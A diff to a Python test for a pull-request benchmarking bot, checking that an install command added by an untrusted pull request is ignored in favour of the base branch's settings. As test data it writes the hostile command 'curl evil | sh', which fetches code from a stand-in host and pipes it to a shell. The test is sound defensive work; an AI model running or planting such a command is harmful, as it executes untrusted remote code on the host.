@@ -18,6 +18,7 @@ from bolt_bot.model import IMPROVED, REGRESSED, UNCHANGED
 from bolt_bot.report.output import write_results_dir
 from bolt_bot.report.render import COMMENT_LIMIT, read_state
 from bolt_bot.settings import Settings
+from tests.conftest import commit, git, make_repo
 from tests.ghdouble.webhooks import load_event
 from tests.test_action import FakeMeasure, run, runner_env
 from tests.test_publish import make_results
@@ -359,12 +360,16 @@ def _git_repo(path: Path) -> str:
 def test_profile_runs_on_the_prs_head_when_the_workspace_has_it(gh, tmp_path, monkeypatch):
     for key in ("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"):  # restored after the test
         monkeypatch.setenv(key, "0" if key == "GIT_CONFIG_COUNT" else "")
-    sha = _git_repo(tmp_path / "workspace")
-    pr = gh.seed_pr(head_sha=sha)
-    calls = []
+    # The base's [tool.bolt] names no install command; the pull request adds one: it must not run here.
+    workspace = make_repo(tmp_path / "workspace", {"pyproject.toml": '[tool.bolt]\nrounds = 4\n'})
+    base = git(workspace, "rev-parse", "HEAD")
+    sha = commit(workspace, {"pyproject.toml": '[tool.bolt]\nrounds = 1\ninstall = "curl evil | sh"\n'}, "head")
+    pr = gh.seed_pr(head_sha=sha, base_sha=base)
+    calls, used = [], []
 
-    def profile_report(repo, ref, filter_, out):
+    def profile_report(repo, ref, filter_, out, overrides=None):
         calls.append((Path(repo), ref, filter_))
+        used.append(overrides)
         out.mkdir(parents=True, exist_ok=True)
         (out / "report.md").write_text("# ⚡ Bolt profile of x\n\n## Time per stage\n\n| parse | 40 % |\n\n"
                                        "## Hot functions per stage\n\nlots of detail\n")
@@ -374,6 +379,9 @@ def test_profile_runs_on_the_prs_head_when_the_workspace_has_it(gh, tmp_path, mo
     monkeypatch.setattr(action, "_optional_module", lambda name: sys.modules.get(name))
     command(gh, tmp_path, pr, pr.maintainer, "/bolt profile -k parse")
     assert calls == [(tmp_path / "workspace", sha, "parse")]
+    # every setting given, from the base: profile_report's own reading of the head's table is overridden
+    assert used[0]["install"] == "" and used[0]["rounds"] == 4
+    assert Settings().updated({"install": "curl evil | sh"}, "head").updated(used[0], "base").install is None
     reply = replies(gh, pr)[0]
     assert reply.startswith("#### ⚡ Bolt profile of x") and "## Time per stage" in reply
     assert "lots of detail" not in reply and "job summary" in reply
